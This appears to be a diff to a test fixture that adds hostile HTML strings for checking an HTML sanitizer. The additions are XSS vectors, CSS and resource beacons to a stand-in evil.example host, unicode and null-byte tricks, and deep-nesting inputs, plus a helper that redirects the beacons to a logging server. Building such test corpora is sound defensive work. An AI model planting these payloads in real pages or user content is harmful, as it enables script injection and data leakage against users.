@@ -50,8 +50,36 @@ export const hostileHtml: readonly string[] = [
   '<textarea autofocus onfocus="window.pwned = 1"></textarea><select onfocus="window.pwned = 1" autofocus></select>',
   '<marquee onstart="window.pwned = 1">x</marquee><blink>y</blink>',
   '<![CDATA[<script>window.pwned = 1</script>]]><!--><img src=x onerror=window.pwned=1>-->',
+  `<div style="background-image:url(${beacon}.png)"></div><style>input[value^=a]{background:url(${beacon}?a)}</style>`,
+  `<style>@font-face{font-family:x;src:url(${beacon}.woff);unicode-range:U+0041}*{font-family:x}</style>AAA`,
+  `<math href="javascript:window.pwned=1">m</math><math><maction actiontype="statusline" xlink:href="${beacon}">x</maction></math>`,
+  `<math><annotation-xml encoding="text/html"><img src="${beacon}.png" onerror="window.pwned=1"></annotation-xml></math>`,
+  `<svg><foreignObject><img src="${beacon}.png"><iframe src="${beacon}"></iframe></foreignObject></svg>`,
+  `<svg><a xlink:href="javascript:window.pwned=1"><text>x</text></a><set attributeName="href" to="javascript:window.pwned=1"/></svg>`,
+  `<svg><filter><feImage href="${beacon}.svg"/></filter><style>@import "${beacon}.css"</style></svg>`,
+  `<input type="image" src="${beacon}.png"><button formaction="${beacon}">x</button><isindex action="${beacon}">`,
+  `<frameset onload="window.pwned=1"><frame src="${beacon}"></frameset><portal src="${beacon}"></portal>`,
+  `<track src="${beacon}.vtt" default><video><source src="${beacon}.mp4" onerror="window.pwned=1"></video>`,
+  `<link rel="dns-prefetch" href="${beacon}"><link rel="preconnect" href="${beacon}"><link rel="modulepreload" href="${beacon}">`,
+  `<script type="speculationrules">{"prefetch":[{"urls":["${beacon}"]}]}</script><script type="importmap">{}</script>`,
+  `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='window.pwned=1'/>">`,
+  `<img loading="lazy" src="${beacon}.gif" width="1" height="1"><image src="${beacon}.gif"><img lowsrc="${beacon}.gif" dynsrc="${beacon}">`,
+  '<a href="vbscript:msgbox(1)">vbscript</a><a href="blob:https://x/1">blob</a><a href="\u0001javascript:window.pwned=1">control</a>',
+  '<a href="vscode-insiders://x/run">insiders</a><a href="vscode-webview://x">webview</a><a href="ms-settings:">settings</a>',
+  '<p>null\u0000byte<scr\u0000ipt>window.pwned = 1</scr\u0000ipt></p>',
+  '<p>zero\u200Bwidth\u200D\uFEFF \u202Etxet desrever\u202C \u2066isolated\u2069</p>',
+  `<p>${'W'.repeat(10_000)}</p>`,
+  `${'<blockquote>'.repeat(100)}deep${'</blockquote>'.repeat(100)}`,
+  `${'<div>'.repeat(5_000)}deeper${'</div>'.repeat(5_000)}`,
+  `<p>${'\u0301'.repeat(2_000)}a${'\u0489'.repeat(2_000)}</p>`,
+  `<a href="https://ok.example@evil.example/x">https://ok.example</a><a href="https://xn--bcher-kva.example">punycode</a>`,
   `<q cite="${beacon}">x</q><blockquote cite="${beacon}">y</blockquote><a ping="${beacon}" href="https://ok.example">z</a>`,
 ];
+
+/** The same with the tracker's address replaced: by that of a server which notes what it is asked for. */
+export function aimedAt(server: string, bodies: readonly string[]): string[] {
+  return bodies.map((text) => text.replaceAll('https://evil.example', server));
+}
 
 /** The same in Markdown, whose own syntax is all that a note of a colleague may use. */
 export const hostileMarkdown: readonly string[] = [
